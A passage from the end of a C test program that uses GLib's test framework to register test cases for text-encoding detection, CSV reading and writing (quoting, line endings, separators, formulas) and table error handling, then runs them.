  g_test_add_func ("/encoding/damaged-utf8", test_decode_damaged_utf8);
  g_test_add_func ("/encoding/binary", test_decode_binary);
  g_test_add_func ("/csv/reader/quoted", test_reader_quoted);
  g_test_add_func ("/csv/reader/line-endings", test_reader_line_endings);
  g_test_add_func ("/csv/reader/trimming", test_reader_trimming);
  g_test_add_func ("/csv/reader/excel-leniency", test_reader_excel_leniency);
  g_test_add_func ("/csv/reader/separators", test_reader_separators);
  g_test_add_func ("/csv/reader/blank-records", test_reader_blank_records);
  g_test_add_func ("/csv/reader/unclosed-quote", test_reader_unclosed_quote);
  g_test_add_func ("/csv/files/same-roster", test_files_same_roster);
  g_test_add_func ("/csv/files/quoted", test_files_quoted);
  g_test_add_func ("/csv/files/utf16-unicode-text", test_files_utf16_unicode_text);
  g_test_add_func ("/csv/write/round-trip", test_round_trip);
  g_test_add_func ("/csv/write/file", test_write_csv_file);
  g_test_add_func ("/csv/write/error", test_write_csv_error);
  g_test_add_func ("/csv/write/formulas", test_write_csv_formulas);
  g_test_add_func ("/table/too-many-rows", test_too_many_rows);
  g_test_add_func ("/table/errors", test_table_errors);
  g_test_add_func ("/table/cancelled", test_table_cancelled);

  return g_test_run ();
}
